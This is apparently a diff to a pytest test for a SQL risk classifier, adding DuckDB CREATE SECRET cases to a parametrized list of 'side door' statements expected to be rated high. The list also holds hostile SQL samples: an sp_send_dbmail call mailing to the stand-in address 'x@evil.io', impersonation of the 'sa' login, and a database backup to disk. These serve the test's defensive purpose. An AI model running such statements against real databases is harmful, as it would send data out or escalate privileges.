@@ -76,6 +76,12 @@ ALLOWED = ["data.example.com"]
         ("fabric", "EXEC msdb.dbo.sp_send_dbmail @recipients = 'x@evil.io'", "sql.remote_access"),
         ("fabric", "EXECUTE AS LOGIN = 'sa'", "sql.credential"),
         ("fabric", "BACKUP DATABASE db TO DISK = 'C:\\dump.bak'", "sql.outside_workspace"),
+        ("local", "CREATE SECRET s3cfg (TYPE s3, KEY_ID 'k', SECRET 'v')", "sql.credential"),
+        (
+            "local",
+            "CREATE PERSISTENT SECRET (TYPE s3, PROVIDER credential_chain)",
+            "sql.credential",
+        ),
     ],
 )
 def test_side_doors_are_high(platform: str, sql: str, rule: str) -> None:
